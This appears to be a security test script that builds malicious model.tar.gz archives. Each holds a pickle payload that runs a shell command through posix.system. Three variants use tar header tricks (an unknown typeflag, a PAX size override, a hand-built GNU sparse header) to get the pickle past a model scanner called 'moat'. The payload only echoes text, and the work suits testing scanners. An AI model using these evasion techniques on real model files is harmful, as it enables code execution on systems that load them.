"""model.tar.gz bundles whose pickle member moat never scans. Written only, never extracted."""
import os
import gzip, io, tarfile
O = os.path.dirname(os.path.abspath(__file__)) + "/"
payload = b"\x80\x02cposix\nsystem\nX\n\x00\x00\x00echo pwnedq\x00\x85R."

def hdr(name, size, kind, extra=None):
    t = tarfile.TarInfo(name); t.size = size; t.type = kind; t.mode = 0o644
    return t.tobuf(format=tarfile.USTAR_FORMAT if extra is None else tarfile.PAX_FORMAT)
def pad(b): return b + b"\0" * (-len(b) % 512)
def write(name, body):
    open(O + name, "wb").write(gzip.compress(body + b"\0" * 1024))

write("r0_baseline.tar.gz", hdr("model.pkl", len(payload), b"0") + pad(payload))
# R1: unknown type flag 'Z': tarfile (and GNU tar) extract it as a regular file
write("r1_unknown_typeflag.tar.gz", hdr("model.pkl", len(payload), b"Z") + pad(payload))
# R2: PAX 'size=' record overrides the ustar size field (tarfile honours it, moat does not)
def pax_record(k, v):
    body = f" {k}={v}\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n: n = len(str(n)) + len(body)
    return f"{n}{body}".encode()
p = pax_record("size", str(len(payload)))
t = tarfile.TarInfo("././@PaxHeader"); t.size = len(p); t.type = b"x"
pax = t.tobuf(format=tarfile.USTAR_FORMAT) + pad(p)
write("r2_pax_size.tar.gz", pax + hdr("model.pkl", 0, b"0") + pad(payload))
# R3: GNU sparse member ('S') with one data region covering the file: extracted as the pickle
t = tarfile.TarInfo("model.pkl"); t.size = len(payload); t.type = tarfile.GNUTYPE_SPARSE; t.mode = 0o644
b = bytearray(t.tobuf(format=tarfile.GNU_FORMAT))
def oct12(n): return ("%011o" % n).encode() + b"\0"
b[386:398] = oct12(0); b[398:410] = oct12(len(payload))  # sparse[0] = (offset 0, numbytes len)
b[482] = 0; b[483:495] = oct12(len(payload))             # not extended; realsize
b[148:156] = b" " * 8; b[148:155] = ("%06o\0" % sum(b)).encode()
write("r3_gnu_sparse.tar.gz", bytes(b) + pad(payload))
print("ok")
